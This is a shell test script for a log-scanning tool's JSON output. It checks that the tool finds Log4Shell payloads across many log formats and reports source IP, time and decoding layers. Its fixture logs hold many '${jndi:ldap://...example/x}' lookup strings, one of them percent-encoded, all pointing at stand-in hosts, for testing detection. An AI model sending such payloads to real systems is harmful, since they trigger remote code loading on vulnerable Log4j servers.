#!/usr/bin/env bash
# logs_json.sh -- `defuse logs --json`: every field of the contract with the
# right type, no raw '$' anywhere in the output, and src_ip / time taken
# from each supported line format (combined and vhost access logs, nginx
# error log, JSON logs with ISO or epoch times, RFC 5424 and RFC 3164
# syslog, log4j layouts), absent for an unknown format.  Expected values
# are written here by hand (times converted to UTC by python's datetime).
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
cat > mixed.log <<'LOG'
203.0.113.5 - - [10/Dec/2021:14:05:06 +0100] "GET /${jndi:ldap://a.example/x} HTTP/1.1" 200 1 "-" "-"
shop.example:443 198.51.100.7 - - [10/Dec/2021:13:00:00 -0500] "GET /?q=${jndi:ldap://b.example/x} HTTP/1.1" 404 0 "-" "-"
2021/12/10 13:01:02 [error] 31#31: *7 open() "/srv/${jndi:ldap://c.example/x}" failed (2: No such file or directory), client: 192.0.2.44, server: _
{"@timestamp":"2021-12-10T13:02:03.456+02:00","remote_addr":"2001:db8::1","msg":"${jndi:ldap://d.example/x}"}
{"ts":1639141323,"client_ip":"192.0.2.9","ua":"${jndi:ldap://e.example/x}"}
<34>1 2021-12-10T13:03:04.000Z web01 app 1234 ID47 - login failed for ${jndi:ldap://f.example/x} from 192.0.2.50
Dec 10 13:04:05 bastion sshd[99]: Invalid user ${jndi:ldap://g.example/x} from 198.51.100.9 port 4444
2021-12-10 13:05:06,789 WARN  [main] Login - user ${jndi:ldap://h.example/x}
[2021-12-10 13:06:07,000] INFO  request from 192.0.2.77 ${jndi:ldap://i.example/x}
just text ${jndi:ldap://j.example/x}
{"source":{"ip":"192.0.2.88"},"time":"10/Dec/2021:13:07:00 +0000","m":"${jndi:ldap://k.example/x}"}
LOG
touch -d '2021-12-31 12:00:00 UTC' mixed.log   # RFC 3164 takes the year of the file
"$DEFUSE" logs --json mixed.log > out.json; rc=$?
expect_rc 1 "$rc" "--json with findings"
expect_nogrep '$' out.json "no raw \$ in JSON output"
python3 - <<'PY' || fail "JSON field checks"
import json, datetime as dt
rows = [json.loads(l) for l in open("out.json")]
want = {  # host letter -> (line, src_ip or None, time or None[, zone assumed])
    # a time without a zone in the log is written as UTC, time_zone_assumed
    "a": (1, "203.0.113.5", "2021-12-10T13:05:06Z"),
    "b": (2, "198.51.100.7", "2021-12-10T18:00:00Z"),
    "c": (3, "192.0.2.44", "2021-12-10T13:01:02Z", True),
    "d": (4, "2001:db8::1", "2021-12-10T11:02:03.456Z"),
    "e": (5, "192.0.2.9", dt.datetime.fromtimestamp(1639141323, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000Z")),
    "f": (6, "192.0.2.50", "2021-12-10T13:03:04.000Z"),
    "g": (7, "198.51.100.9", "2021-12-10T13:04:05Z", True),
    "h": (8, None, "2021-12-10T13:05:06.789Z", True),
    "i": (9, "192.0.2.77", "2021-12-10T13:06:07.000Z", True),
    "j": (10, None, None),
    "k": (11, "192.0.2.88", "2021-12-10T13:07:00Z"),
}
seen = set()
bad = []
for r in rows:
    for key, typ in (("file", str), ("line", int), ("kind", str), ("payload", str), ("decoded", str),
                     ("layers", list), ("techniques", list), ("exfil", list)):
        assert isinstance(r.get(key), typ), ("type of", key, r)
    for key in ("callback", "scheme", "host", "path", "command"):
        assert key in r and (r[key] is None or isinstance(r[key], str)), ("type of", key, r)
    assert "port" in r and (r["port"] is None or isinstance(r["port"], int)), r
    if r["kind"] != "jndi":
        continue
    letter = r["callback"].split("//")[1][0]
    line, ip, tm = want[letter][:3]
    assumed = (want[letter][3:] or (False if tm else None,))[0]
    if r.get("time_zone_assumed") != assumed: bad.append(("zone", letter, r.get("time_zone_assumed"), assumed))
    seen.add(letter)
    if r["line"] != line: bad.append(("line", letter, r["line"], line))
    if r.get("src_ip") != ip: bad.append(("src_ip", letter, r.get("src_ip"), ip))
    if r.get("time") != tm: bad.append(("time", letter, r.get("time"), tm))
    keys = list(r)
    assert keys[:2] == ["file", "line"], keys
assert not bad, bad
assert seen == set(want), ("missing", set(want) - seen)
print("ok: all formats give the right src_ip and time")
PY

# Encoded payload: layers reported, and --no-decode turns it off
printf '192.0.2.1 - - [10/Dec/2021:13:00:00 +0000] "GET /?x=%%24%%7Bjndi:ldap://enc.example/a%%7D HTTP/1.1" 400 0\n' > enc.log
"$DEFUSE" logs --json enc.log > out.json; rc=$?
expect_rc 1 "$rc" "percent-encoded payload found"
python3 -c '
import json; r=[json.loads(l) for l in open("out.json")]
assert any(x["kind"]=="jndi" and "percent" in x["layers"] and "encoded" in x["techniques"] for x in r), r' \
  && ok "layers and techniques name the percent encoding" || fail "layers of encoded payload"
"$DEFUSE" logs --json --no-decode --kind=jndi enc.log > out.json; rc=$?
expect_rc 0 "$rc" "--no-decode leaves %24%7B alone"

# --summary --json: one summary object as the last line, counts agree
"$DEFUSE" logs --json --summary mixed.log > out.json
python3 - <<'PY' || fail "--json --summary"
import json
rows = [json.loads(l) for l in open("out.json")]
s = rows[-1]
assert s.get("summary") is True, s
finds = rows[:-1]
assert s["findings"] == len(finds), (s["findings"], len(finds))
assert s["kinds"]["jndi"] == sum(r["kind"] == "jndi" for r in finds)
assert s["lines"] == 11 and s["files"] == 1, s
srcs = {e["value"]: e["count"] for e in s["top_sources"]}
assert srcs.get("203.0.113.5") == sum(r.get("src_ip") == "203.0.113.5" for r in finds), srcs
hours = {e["hour"]: e["count"] for e in s["per_hour"]}
assert hours.get("2021-12-10T13:00", 0) >= 8, hours
print("ok: summary object")
PY
finish
